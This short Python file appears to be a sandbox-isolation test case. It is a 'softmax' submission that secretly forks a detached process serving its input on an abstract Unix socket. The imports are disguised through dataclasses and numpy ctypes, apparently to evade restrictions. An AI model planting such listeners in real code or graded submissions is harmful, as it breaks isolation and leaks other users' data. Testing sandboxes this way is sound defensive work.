# expect: status=failed score=0 leaks=nothing
"""First of two submissions: a process stays behind and tells, on an abstract socket, what was asked."""

import dataclasses

import numpy as np

sys = dataclasses.sys
os = sys.modules["os"]
libc = np.ctypeslib.ctypes.CDLL(None)
NAME = (1).to_bytes(2, "little") + b"\0attack-abstract"


def softmax(x, axis=-1):
    listener = libc.socket(1, 1, 0)
    if listener < 0 or libc.bind(listener, NAME, len(NAME)) or libc.listen(listener, 5):
        return x
    if os.fork() == 0:
        os.setsid()
        os.closerange(0, listener)
        sys.modules["signal"].alarm(8)
        while True:
            os.write(libc.accept(listener, None, None), str(x.tolist()).encode())
    return x
